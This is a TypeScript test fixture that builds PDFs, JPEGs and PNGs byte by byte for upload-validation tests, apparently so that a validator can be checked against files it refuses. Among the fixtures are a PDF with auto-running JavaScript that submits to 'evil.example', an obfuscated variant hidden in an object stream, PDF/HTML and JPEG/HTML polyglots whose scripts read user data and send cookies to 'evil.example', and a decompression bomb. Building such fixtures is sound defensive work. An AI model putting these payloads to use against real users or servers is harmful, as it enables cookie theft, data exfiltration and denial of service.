import { crc32, deflateSync } from 'node:zlib';

/**
 * Files built byte by byte for the upload tests: small but real PDFs, JPEGs and PNGs, and the
 * malicious ones decision 058 refuses. Nothing here is read from disk.
 */

/** A PDF of the given objects (`N 0 obj … endobj` bodies, numbered from 1), with its cross-reference table. */
export function pdfOf(
  objects: readonly (string | Buffer)[],
  { trailer = '' }: { trailer?: string } = {},
): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  objects.forEach((body, index) => {
    offsets.push(length);
    const object = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    parts.push(object);
    length += object.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>`,
    'startxref',
    String(length),
    '%%EOF',
    '',
  ].join('\n');
  return Buffer.concat([...parts, Buffer.from(xref, 'latin1')]);
}

/** A stream object: its dictionary entries and its data, with /Length. */
export const streamObject = (dictionary: string, data: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (extra = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${extra}>>`;
const content = (text: string) =>
  streamObject('/Filter /FlateDecode', deflateSync(Buffer.from(`BT /F1 24 Tf 72 720 Td (${text}) Tj ET`)));

/** A plain one-page PDF whose page content is compressed, as most PDFs' is. */
export const plainPdf = (text = 'Diploma'): Buffer => pdfOf([CATALOG, PAGES, page(), content(text)]);

/** A PDF that runs a script as soon as it opens: /OpenAction with a JavaScript action. */
export const pdfWithOpenActionScript = (): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
    PAGES,
    page(),
    content('Diploma'),
    '<< /Type /Action /S /JavaScript /JS (app.alert\\("pwned"\\); this.submitForm\\("https://evil.example"\\);) >>',
  ]);

/** The same script with its names escaped (`/J#61vaScript`), hidden in a compressed object stream. */
export function pdfWithScriptInObjectStream(): Buffer {
  const header = '5 0 ';
  const action = '<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>';
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
    PAGES,
    page(),
    content('Diploma'),
    streamObject(
      `/Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode`,
      deflateSync(Buffer.from(`${header}${action}`, 'latin1')),
    ),
  ]);
}

/** A PDF that opens at its first page, fitted to the window: an /OpenAction without any action. */
export const pdfOpeningFitted = (): Buffer =>
  pdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>', PAGES, page(), content('Diploma')]);

/** A PDF that is a web page too: HTML with a script after its header, in a comment the PDF reader skips. */
export const pdfHtmlPolyglot = (): Buffer => {
  const pdf = plainPdf();
  const header = pdf.indexOf('\n') + 1;
  return Buffer.concat([
    pdf.subarray(0, header),
    Buffer.from(
      '%<html><body><script>fetch("/api/v1/users/me").then(r=>r.text()).then(alert)</script></body></html>\n',
    ),
    pdf.subarray(header),
  ]);
};

/** A PDF whose single stream inflates to `bytes` zeros (200 MB in 200 KB): a decompression bomb. */
export const pdfInflatingTo = (bytes: number): Buffer =>
  pdfOf([CATALOG, PAGES, page(), streamObject('/Filter /FlateDecode', deflateSync(Buffer.alloc(bytes)))]);

/** A JPEG segment: a marker and its payload with the length before it. */
const segment = (marker: number, payload: Buffer) =>
  Buffer.concat([
    Buffer.from([0xff, marker, (payload.length + 2) >> 8, (payload.length + 2) & 0xff]),
    payload,
  ]);

/**
 * A real baseline JPEG of `width` × `height` grey pixels (one 8×8 block when 1 × 1): quantisation
 * and Huffman tables with one code each, a frame, a scan and EOI; `comment` adds a COM segment.
 */
export function jpegOf({
  width = 1,
  height = 1,
  comment,
}: { width?: number; height?: number; comment?: string } = {}): Buffer {
  const table = (tableClass: number) =>
    segment(
      0xc4,
      Buffer.concat([
        Buffer.from([tableClass << 4]),
        Buffer.from([1, ...Array(15).fill(0)]),
        Buffer.from([0]),
      ]),
    );
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xe0, Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1')),
    ...(comment === undefined ? [] : [segment(0xfe, Buffer.from(comment, 'latin1'))]),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc0, Buffer.from([8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0])),
    table(0),
    table(1),
    segment(0xda, Buffer.from([1, 1, 0x00, 0, 63, 0])),
    // DC difference 0 (code 0), end of block (code 0), padded with ones; then a stuffed 0xFF byte.
    Buffer.from([0x3f, 0xff, 0x00]),
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** A file that starts as a JPEG and goes on as a web page. */
export const jpegMagicThenHtml = (): Buffer =>
  Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    Buffer.from(
      '<!doctype html><html><script>document.location="https://evil.example/?"+document.cookie</script>',
    ),
  ]);

const pngChunk = (type: string, data: Buffer) => {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
};

/** A real PNG of `width` × `height` grey pixels; `trailer` is appended after IEND. */
export function pngOf({
  width = 2,
  height = 2,
  trailer,
}: { width?: number; height?: number; trailer?: Buffer } = {}): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const rows = Math.min(height, 64);
  const pixels = deflateSync(Buffer.alloc(rows * (width + 1), 0x80));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
    ...(trailer ? [trailer] : []),
  ]);
}
